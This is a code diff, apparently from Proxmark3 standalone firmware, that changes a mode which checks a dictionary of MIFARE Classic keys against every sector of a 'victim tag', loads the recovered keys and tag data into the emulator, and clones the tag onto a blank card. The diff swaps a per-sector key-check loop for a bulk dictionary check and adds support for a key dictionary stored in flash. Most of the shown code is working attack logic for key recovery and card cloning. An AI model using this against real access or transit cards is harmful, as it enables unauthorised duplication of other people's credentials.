@@ -25,7 +25,8 @@ and *clone* commands.
 
 ### What it does now:
 It will check if the keys from the attacked tag are a subset from
-the hardcoded set of keys inside of the FPGA. If this is the case
+the hardcoded set of keys inside of the FPGA, or of the dictionary
+uploaded to flash with `mem load -f mfc_default_keys --mfc`. If this is the case
 then it will load the keys into the emulator memory and also the
 content of the victim tag, to finally simulate it and make a clone
 on a blank card.
@@ -182,46 +183,6 @@ static int saMifareCSetBlock(uint32_t arg0, uint32_t arg1, uint32_t arg2, uint8_
     return isOK;
 }
 
-/* the chk function is a piwi’ed(tm) check that will try all keys for
-a particular sector. also no tracing no dbg */
-static int saMifareChkKeys(uint8_t blockNo, uint8_t keyType, bool clearTrace,
-                           uint8_t keyCount, uint8_t *datain, uint64_t *key) {
-    g_dbglevel = DBG_NONE;
-    iso14443a_setup(FPGA_HF_ISO14443A_READER_LISTEN);
-    set_tracing(false);
-
-    struct Crypto1State mpcs = {0, 0};
-    struct Crypto1State *pcs;
-    pcs = &mpcs;
-
-    int retval = -1;
-
-    for (uint8_t i = 0; i < keyCount; i++) {
-
-        /* no need for anticollision. just verify tag is still here */
-        // if (!iso14443a_fast_select_card(cjuid, 0)) {
-        if (!iso14443a_select_card(mattyrun_uid, &mattyrun_p_card, &mattyrun_cuid, true, 0, true)) {
-            DbprintfEx(FLAG_NEWLINE, "FATAL : E_MF_LOSTTAG");
-            break;
-        }
-
-        uint64_t ui64Key = bytes_to_num(datain + i * 6, 6);
-        if (mifare_classic_auth(pcs, mattyrun_cuid, blockNo, keyType, ui64Key, AUTH_FIRST)) {
-            uint8_t dummy_answer = 0;
-            ReaderTransmit(&dummy_answer, 1, NULL);
-            // wait for the card to become ready again
-            SpinDelayUs(AUTHENTICATION_TIMEOUT);
-            continue;
-        }
-        *key = ui64Key;
-        retval = i;
-        break;
-    }
-    crypto1_deinit(pcs);
-    FpgaWriteConfWord(FPGA_MAJOR_MODE_OFF);
-    return retval;
-}
-
 /* Abusive microgain on original MifareECardLoad :
  * - *datain used as error return
  * - tracing is falsed
@@ -299,7 +260,7 @@ void ModInfo(void) {
 
 /*
     It will check if the keys from the attacked tag are a subset from
-    the hardcoded set of keys inside of the ARM. If this is the case
+    the hardcoded set of keys inside of the ARM, or of the dictionary in flash. If this is the case
     then it will load the keys into the emulator memory and also the
     content of the victim tag, to finally simulate it.
 
@@ -320,9 +281,7 @@ void RunMod(void) {
 
     uint16_t mifare_size = 1024;    // Mifare 1k (only 1k supported for now)
     uint8_t sectorSize = 64;        // 1k's sector size is 64 bytes.
-    uint8_t blockNo = 3;            // Security block is number 3 for each sector.
     uint8_t sectorsCnt = (mifare_size / sectorSize);
-    uint64_t key64;                 // Defines current key
     uint8_t *keyBlock;              // Where the keys will be held in memory.
     bool keyFound = false;
 
@@ -436,35 +395,40 @@ void RunMod(void) {
         }
     }
 
-    // Iterates through each sector checking if there is a correct key.
+    // Checks the whole dictionary against all sectors at once. With a dictionary
+    // uploaded to flash it replaces the keys above.
     bool err = 0;
     bool allKeysFound = true;
-    uint32_t size = mfKeysCnt;
-
-    for (int type = 0; type < 2 && !err; type++) {
-        int block = blockNo;
-        for (int sec = 0; sec < sectorsCnt && !err; ++sec) {
-            Dbprintf("\tCurrent sector:%3d, block:%3d, key type: %c, key count: %i ", sec, block, type ? 'B' : 'A', mfKeysCnt);
-            int key = saMifareChkKeys(block, type, true, size, &keyBlock[0], &key64);
-            if (key == -1) {
-                LED(LED_RED, 50);
-                Dbprintf("\t [✕] Key not found for this sector!");
-                allKeysFound = false;
-                // break;
-            } else if (key == -2) {
-                err = 1; // Can't select card.
-                break;
-            } else {
-                num_to_bytes(key64, 6, foundKey[type][sec]);
+    uint8_t *sectorkeys = BigBuf_malloc(sectorsCnt * 12);
+    uint8_t *found = BigBuf_malloc(sectorsCnt * 2);
+
+    Dbprintf("\tChecking %u sectors, key count: %i", sectorsCnt, mfKeysCnt);
+    uint32_t start_time = GetTickCount();
+    int res = MifareChkKeys_dict(sectorsCnt, keyBlock, mfKeysCnt, true, sectorkeys, found);
+    Dbprintf("\tDone in %u ms", GetTickCountDelta(start_time));
+
+    if (res < 0) {
+        LED(LED_RED, 50);
+        Dbprintf("\t [✕] Can't check keys (%d)", res);
+        allKeysFound = false;
+    } else {
+        for (int type = 0; type < 2; type++) {
+            for (int sec = 0; sec < sectorsCnt; ++sec) {
+                if (found[(sec * 2) + type] == 0) {
+                    Dbprintf("\tSector:%3d, key type: %c [✕] Key not found", sec, type ? 'B' : 'A');
+                    allKeysFound = false;
+                    continue;
+                }
+
+                memcpy(foundKey[type][sec], sectorkeys + (sec * 12) + (type * 6), 6);
                 validKey[type][sec] = true;
                 keyFound = true;
-                Dbprintf("\t [✓] Found valid key: [%02x%02x%02x%02x%02x%02x]\n",
-                         (keyBlock + 6 * key)[0], (keyBlock + 6 * key)[1], (keyBlock + 6 * key)[2],
-                         (keyBlock + 6 * key)[3], (keyBlock + 6 * key)[4], (keyBlock + 6 * key)[5]
+                Dbprintf("\tSector:%3d, key type: %c [✓] Found valid key: [%02x%02x%02x%02x%02x%02x]",
+                         sec, type ? 'B' : 'A',
+                         foundKey[type][sec][0], foundKey[type][sec][1], foundKey[type][sec][2],
+                         foundKey[type][sec][3], foundKey[type][sec][4], foundKey[type][sec][5]
                         );
             }
-
-            block < 127 ? (block += 4) : (block += 16);
         }
     }
 